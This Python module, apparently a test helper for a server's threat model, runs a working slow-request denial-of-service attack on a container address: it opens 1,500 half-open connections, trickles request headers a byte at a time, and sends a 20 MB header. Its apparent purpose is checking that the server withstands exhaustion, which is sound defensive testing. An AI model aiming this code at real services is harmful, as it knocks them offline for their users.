"""Attacks with connections and unfinished requests on an address of a container: some of docs/threat-model.md."""

from __future__ import annotations

import contextlib
import resource
import socket
import time
from collections.abc import Iterator

MB = 2**20
HALF_OPEN = 1500
SLOW_HEADS = 50
HEADER_MB = 20
SECONDS = 4.0  # of heads that arrive a byte at a time


@contextlib.contextmanager
def many_files(count: int) -> Iterator[None]:
    """This process may have `count` files open meanwhile."""
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (max(soft, count), max(hard, count)))
    try:
        yield
    finally:
        resource.setrlimit(resource.RLIMIT_NOFILE, (soft, hard))


def attack(address: tuple[str, int]) -> int:
    """Connections that are half open, heads that arrive a byte at a time, and a large header, together.

    Returns the number of connections that were open at the end, of those that the other side had not closed.
    """
    with many_files(2 * HALF_OPEN), contextlib.ExitStack() as stack:
        clients = [stack.enter_context(_connect(address)) for _ in range(HALF_OPEN)]
        slow = [stack.enter_context(_connect(address)) for _ in range(SLOW_HEADS)]
        large = stack.enter_context(_connect(address))
        with contextlib.suppress(OSError):  # cut off
            large.sendall(b"GET / HTTP/1.1\r\nHost: a\r\nX: ")
            for _ in range(HEADER_MB):
                large.sendall(b"a" * MB)
        ends = time.monotonic() + SECONDS
        while time.monotonic() < ends:
            for client in slow:
                with contextlib.suppress(OSError):
                    client.sendall(b"a")
            time.sleep(0.2)
        return sum(map(_is_open, clients + slow))


def _connect(address: tuple[str, int]) -> socket.socket:
    client = socket.create_connection(address, timeout=20)
    with contextlib.suppress(OSError):
        client.sendall(b"GET / HTTP/1.1\r\n")
    return client


def _is_open(client: socket.socket) -> bool:
    client.setblocking(False)
    try:
        return bool(client.recv(1))
    except BlockingIOError:
        return True
    except OSError:
        return False
